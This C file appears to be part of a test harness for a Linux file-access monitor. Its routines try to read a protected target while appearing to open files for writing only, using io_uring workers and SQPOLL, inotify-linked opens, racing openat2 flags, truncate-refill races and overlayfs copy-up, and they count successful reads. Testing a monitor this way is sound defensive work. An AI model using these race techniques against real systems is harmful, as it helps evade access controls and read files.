/*
 * Opens for reading that look as if they were for writing only, to who asks /proc what their opener wants. Each makes
 * ROUNDS of them and reports in how many it could read TARGET; WRITABLE is any file that may be opened for writing.
 */
#include "opener.h"
#include "uring.h"
#include <linux/openat2.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

/*
 * Without this every lease on it could be taken, and nobody would ask what an opener wants. A scanner that has no time
 * to ask may refuse it.
 */
static void be_writer(const char *path)
{
    for (int tries = 0; open(path, O_WRONLY | O_APPEND | O_CLOEXEC) < 0; tries++) {
        if (tries == 100) {
            setup_failed(path);
        }
        usleep(20000);
    }
}

static int could_read(int fd)
{
    char byte;
    if (fd < 0) {
        return 0;
    }
    int got = read(fd, &byte, 1) == 1;
    close(fd);
    return got;
}

static struct io_uring_sqe open_of(const char *path, int flags)
{
    return (struct io_uring_sqe){ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path,
                                  .open_flags = O_RDONLY | O_CLOEXEC, .flags = flags };
}

static void open_for_writing(const char *path)
{
    int fd = syscall(SYS_openat, AT_FDCWD, path, O_WRONLY | O_APPEND, 0);
    if (fd >= 0) {
        close(fd);
    }
}

/*
 * lie-way-out ROUNDS WRITABLE TARGET: the open is made by the kernel on the way out of openat(2), by the task itself,
 * whose registers are still those of that call. Opening WRITABLE is what sets it off.
 */
int run_lie_way_out(char **argv)
{
    long rounds = number(argv[1], 1, 100000), readable = 0;
    struct ring ring = ring_open();
    int watch = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    if (watch < 0 || inotify_add_watch(watch, argv[2], IN_OPEN) < 0) {
        setup_failed("inotify");
    }
    be_writer(argv[3]);
    for (long i = 0; i < rounds; i++) {
        char events[4096];
        while (read(watch, events, sizeof events) > 0) {
        }
        struct io_uring_sqe poll = { .opcode = IORING_OP_POLL_ADD, .fd = watch, .poll32_events = POLLIN,
                                     .flags = IOSQE_IO_LINK };
        ring_put(&ring, poll);
        ring_put(&ring, open_of(argv[3], 0));
        ring_submit(&ring, 2, 0);
        open_for_writing(argv[2]);
        ring_take(&ring);
        readable += could_read(ring_take(&ring));
    }
    return report_ok(readable, CHECKSUM_START);
}

/* lie-worker ROUNDS WRITABLE TARGET: a worker of io_uring is born, and opens, while its creator waits in openat(2). */
int run_lie_worker(char **argv)
{
    long rounds = number(argv[1], 1, 100000), readable = 0;
    be_writer(argv[3]);
    for (long i = 0; i < rounds; i++) {
        /* A new process each time, so that the worker is new as well. */
        pid_t child = fork_child();
        if (child == 0) {
            struct ring ring = ring_open();
            ring_put(&ring, open_of(argv[3], IOSQE_ASYNC));
            ring_submit(&ring, 1, 0);
            open_for_writing(argv[2]);
            _exit(could_read(ring_take(&ring)));
        }
        int status;
        if (waitpid(child, &status, 0) != child || !WIFEXITED(status)) {
            setup_failed("waitpid");
        }
        readable += WEXITSTATUS(status);
    }
    return report_ok(readable, CHECKSUM_START);
}

/* lie-poller ROUNDS WRITABLE TARGET: as lie-worker, by the thread that polls a ring. */
int run_lie_poller(char **argv)
{
    long rounds = number(argv[1], 1, 100000), readable = 0;
    be_writer(argv[3]);
    struct ring ring = ring_open_as(IORING_SETUP_SQPOLL);
    for (long i = 0; i < rounds; i++) {
        ring_put(&ring, open_of(argv[3], 0));
        ring_submit(&ring, 1, IORING_ENTER_SQ_WAKEUP);
        open_for_writing(argv[2]);
        readable += could_read(ring_take(&ring));
    }
    return report_ok(readable, CHECKSUM_START);
}

/* lie-how ROUNDS TARGET: openat2(2), whose flags another process changes while it waits. */
int run_lie_how(char **argv)
{
    long rounds = number(argv[1], 1, 100000), readable = 0;
    struct open_how *how = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (how == MAP_FAILED) {
        setup_failed("mmap");
    }
    be_writer(argv[2]);
    if (fork_child() == 0) {
        for (;;) {
            __atomic_store_n(&how->flags, O_RDONLY, __ATOMIC_RELAXED);
            __atomic_store_n(&how->flags, O_WRONLY, __ATOMIC_RELAXED);
        }
    }
    for (long i = 0; i < rounds; i++) {
        readable += could_read(syscall(SYS_openat2, AT_FDCWD, argv[2], how, sizeof *how));
    }
    return report_ok(readable, CHECKSUM_START);
}

/* lie-truncate ROUNDS TARGET: opens with O_CREAT | O_TRUNC what another process fills with standard input meanwhile. */
int run_lie_truncate(char **argv)
{
    long rounds = number(argv[1], 1, 100000), readable = 0;
    struct content content = read_all(STDIN_FILENO);
    write_all(open(argv[2], O_CREAT | O_RDWR | O_CLOEXEC, 0600), content.bytes, content.length, argv[2]);
    if (fork_child() == 0) {
        int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
        for (;;) {
            pwrite(fd, content.bytes, content.length, 0);
        }
    }
    for (long i = 0; i < rounds; i++) {
        /* Empty at first, and soon filled again. */
        int fd = open(argv[2], O_CREAT | O_TRUNC | O_RDWR | O_CLOEXEC, 0600);
        struct stat stat = { 0 };
        while (fd >= 0 && fstat(fd, &stat) == 0 && stat.st_size == 0) {
            sched_yield();
        }
        readable += could_read(fd);
    }
    return report_ok(readable, CHECKSUM_START);
}

/*
 * lie-copy-up LOWER MERGED: an overlay of one's own above somebody's directory. Who opens MERGED for writing has the
 * kernel open LOWER for reading, and finds the copy where nobody watches.
 */
int run_lie_copy_up(char **argv)
{
    be_writer(argv[1]);
    int fd = syscall(SYS_openat, AT_FDCWD, argv[2], O_WRONLY | O_APPEND, 0);
    return fd < 0 ? report_errno(errno) : report_open(open(argv[2], O_RDONLY | O_CLOEXEC));
}
